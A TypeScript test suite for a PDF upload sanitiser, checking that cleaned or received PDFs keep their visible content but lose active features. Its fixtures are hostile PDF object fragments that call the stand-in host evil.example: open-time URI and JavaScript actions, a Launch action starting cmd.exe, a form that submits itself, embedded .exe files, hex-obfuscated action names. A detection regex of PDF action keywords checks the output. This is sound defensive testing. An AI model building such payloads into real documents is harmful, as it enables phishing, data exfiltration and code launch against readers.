// A PDF as it is kept: what its pages show is there; nothing that acts, leads away, or travels along (N5.2).
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { PDFDocument } from '@cantoo/pdf-lib'
import { examples } from '#papers/examples.ts'
import { papers } from '#papers/papers.ts'
import { isRefusal } from '#regulation/vocabulary.ts'
import { renderPdf } from '../pdf/render-pdf.ts'
import { textOf } from '../pdf/testing.ts'
import { cleanPdf } from './clean-pdf.ts'
import { makePdf, type PdfOptions } from './hostile-uploads.ts'
import { receiveUpload } from './receive-upload.ts'

const away = 'evil.example'
/** What no kept file says, in whatever letters; it is written without compressed objects, so that all can be read. */
const traces =
  /evil|\/(?:OpenAction|AA|A|URI|JS|JavaScript|Launch|GoTo[RE]?|SubmitForm|ImportData|Named|XFA|AcroForm|Names|EmbeddedFiles?|Filespec|EF|AF|RichMedia\w*|Rendition|Metadata|PieceInfo|Dests?|Outlines|Ref|Link|Widget)\b/

const uri = `<</S/URI/URI(http://${away}/)>>`
const remote = `<</S/GoToR/F(\\\\\\\\${away}\\\\share\\\\x.pdf)/D[0/Fit]>>`
const drawing = '<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Length 20>>stream\n0 0 9 9 re f %shown!\nendstream'
const file = `<</Type/Filespec/F(${away}.exe)/EF<</F 101 0 R>>>>`
const carried = `<</Type/EmbeddedFile/Length 12>>stream\n${away}\nendstream`

/** Each hides at its own place what would act; whether such a file is taken in at all is asked below. */
const kinds: Readonly<Record<string, PdfOptions>> = {
  'an address on opening': { catalog: `/OpenAction ${uri}` },
  'an address whose name is spelled in numbers': { catalog: `/Open#41ction<</#53/#55RI/#55RI(http://${away})>>` },
  'an address after a page turn': { catalog: '/OpenAction[10 0 R/Fit]', page: `/AA<</O ${uri}/C ${uri}>>` },
  'an address for closing and printing': { catalog: `/AA<</WC ${uri}/WP ${uri}/DP ${uri}>>` },
  'an address under a link': { page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A ${uri}/PA ${uri}>>]` },
  'an address behind another action': {
    catalog: '/OpenAction 100 0 R',
    extra: [`<</S/Named/N/NextPage/Next ${uri}>>`],
  },
  'an address that all links start from': { catalog: `/URI<</Base(http://${away}/)>>` },
  'an address in its table of contents': {
    catalog: '/Outlines 100 0 R',
    extra: ['<</First 101 0 R/Last 101 0 R/Count 1>>', `<</Title(a)/Parent 100 0 R/A ${uri}>>`],
  },
  'another document': { catalog: `/OpenAction ${remote}` },
  'a document inside another': { catalog: `/OpenAction<</S/GoToE/F(${away})/T<</R/C/N(a)>>>>` },
  'a program to start': { catalog: `/OpenAction<</S/Launch/F(${away})/Win<</F(cmd.exe)/P(${away})>>>>` },
  'a script on opening': { catalog: `/OpenAction<</S/JavaScript/JS(app.launchURL\\("${away}"\\))>>` },
  'a script among its names': {
    catalog: '/Names<</JavaScript<</Names[(a) 100 0 R]>>>>',
    extra: [`<</S/JavaScript/JS(${away})>>`],
  },
  'a form that sends itself': { page: `/AA<</O<</S/SubmitForm/F<</FS/URL/F(http://${away})>>>>>>` },
  'a form read from elsewhere': { catalog: `/OpenAction<</S/ImportData/F(${away})>>` },
  'a form in XML': {
    catalog: '/AcroForm<</Fields[]/XFA 100 0 R>>',
    extra: [`<</Length 30>>stream\n<xdp>${away}</xdp>      \nendstream`],
  },
  'another file inside': { catalog: '/Names<</EmbeddedFiles<</Names[(a) 100 0 R]>>>>', extra: [file, carried] },
  'a file beside its catalogue': { catalog: '/AF[100 0 R]', extra: [file, carried] },
  'a file pinned to a page': {
    page: '/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 100 0 R/AP<</N 102 0 R>>>>]',
    extra: [file, carried, drawing],
  },
  'a film': { page: `/Annots[<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition/JS(${away})>>>>]` },
  'rich media': { page: `/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</Assets(${away})>>>>]` },
  'a button with an address': {
    page: `/Annots[<</Type/Annot/Subtype/Widget/Rect[0 0 9 9]/FT/Btn/A ${uri}/AA<</E ${uri}>>/AP<</N 100 0 R>>>>]`,
    extra: [drawing],
  },
  'a drawing that is another document': {
    page: '/Resources<</XObject<</X 100 0 R>>>>',
    extra: [`<</Subtype/Form/BBox[0 0 9 9]/Ref<</F(${away})/Page 0>>/Length 0>>stream\n\nendstream`],
  },
  'a picture from elsewhere': {
    page: '/Resources<</XObject<</X 100 0 R>>>>',
    extra: [`<</Subtype/Image/Width 1/Height 1/OPI<</2.0<</F(${away})>>>>/Length 0>>stream\n\nendstream`],
  },
  'its content in another file': {
    page: '/Contents 100 0 R',
    extra: [`<</F<</FS/URL/F(http://${away})>>/Length 0>>stream\n\nendstream`],
  },
  'an action among its properties': { page: `/Resources<</Properties<</JS ${uri}/Q<</Z[${uri}]>>>>>>` },
  'notes of who made it': {
    catalog: '/Metadata 100 0 R',
    page: `/PieceInfo<</X<</Private(${away})>>>>`,
    extra: [`<</Type/Metadata/Length 12>>stream\n${away}\nendstream`],
  },
  'an address that nothing points to': { extra: [uri] },
}

for (const [what, options] of Object.entries(kinds))
  test(`a PDF with ${what} is kept without it, or refused; made anew nothing of it is left`, async () => {
    for (const compressed of [false, true]) {
      const hostile = makePdf({
        ...options,
        compressed: compressed && !options.extra?.some((body) => /stream/.test(body)),
      })
      const clean = Buffer.from(await cleanPdf(hostile)).toString('latin1')
      assert.doesNotMatch(clean, traces)
      const taken = await receiveUpload(hostile, { name: '材料.pdf', field: 'paper' })
      if (!isRefusal(taken)) assert.doesNotMatch(taken.bytes.toString('latin1'), traces)
    }
  })

test('a PDF that only forbids changes is read through its lock, and kept without the lock and what it hid', async () => {
  const locked = await PDFDocument.load(makePdf({ catalog: `/OpenAction ${uri}`, page: `/AA<</O ${uri}>>`, pages: 2 }))
  locked.encrypt({ userPassword: '', ownerPassword: 'of somebody else', permissions: { modifying: false } })
  const bytes = Buffer.from(await locked.save())
  assert.match(bytes.toString('latin1'), /\/Encrypt/)
  const taken = await receiveUpload(bytes, { name: '材料.pdf', field: 'paper' })
  assert.ok(!isRefusal(taken), isRefusal(taken) ? taken.message : '')
  assert.equal(taken.pages, 2)
  assert.doesNotMatch(taken.bytes.toString('latin1'), traces)
  assert.doesNotMatch(taken.bytes.toString('latin1'), /\/Encrypt/)
})

test('what a filled form, a stamp and a font of any name show stays', async () => {
  const field = '<</Type/Annot/Subtype/Widget/Rect[0 0 9 9]/FT/Btn/AS/On/AP<</N<</On 100 0 R/Off 101 0 R>>>>>>'
  const hidden = '<</Type/Annot/Subtype/Stamp/Rect[0 0 9 9]/F 2/AP<</N 101 0 R>>>>'
  const pdf = makePdf({
    page: `/Annots[${field}${hidden}]/Resources<</Font<</A<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>`,
    extra: [drawing, drawing.replace('shown!', 'unseen')],
  })
  const clean = Buffer.from(await cleanPdf(pdf)).toString('latin1')
  assert.match(clean, /%shown!/)
  assert.doesNotMatch(clean, /%unseen|Widget/)
  assert.match(clean, /\/Subtype \/Stamp/)
  assert.match(clean, /\/Font <<\s*\/A /)
})

test('a printed paper says the same after it was made anew', async () => {
  const { template, data } = papers.receipt.build(examples.receipt)
  const printed = await renderPdf(template, data)
  const [before, after] = [await textOf(printed), await textOf(Buffer.from(await cleanPdf(printed)))]
  assert.ok(before.text.length > 100)
  assert.deepEqual([after.text, after.pages], [before.text, before.pages])
})
